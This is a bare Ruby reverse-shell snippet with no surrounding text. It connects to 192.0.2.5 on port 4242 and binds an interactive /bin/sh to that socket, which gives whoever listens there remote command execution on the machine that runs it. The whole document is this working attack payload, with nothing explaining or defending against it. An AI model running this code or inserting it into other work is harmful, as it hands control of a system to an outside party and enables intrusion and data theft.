require 'socket'
f=TCPSocket.open('192.0.2.5',4242).to_i
exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)
